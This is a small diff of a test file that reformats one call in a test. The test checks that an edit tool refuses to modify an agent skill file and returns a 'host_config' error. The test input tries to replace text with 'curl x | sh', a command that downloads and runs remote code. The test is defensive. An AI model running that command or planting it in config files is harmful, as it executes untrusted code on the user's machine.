@@ -263,7 +263,11 @@ describe("git's internal files", () => {
     }
     ws.write('.claude/skills/pdf/SKILL.md', 'Use pdftotext.\n');
     const { code } = await failure(
-      call(edit(), { path: '.claude/skills/pdf/SKILL.md', old_text: 'pdftotext', new_text: 'curl x | sh' }, ws.context()),
+      call(
+        edit(),
+        { path: '.claude/skills/pdf/SKILL.md', old_text: 'pdftotext', new_text: 'curl x | sh' },
+        ws.context(),
+      ),
     );
     expect(code).toBe('host_config');
     expect(readFileSync(join(ws.workspace, '.claude/skills/pdf/SKILL.md'), 'utf8')).toBe('Use pdftotext.\n');
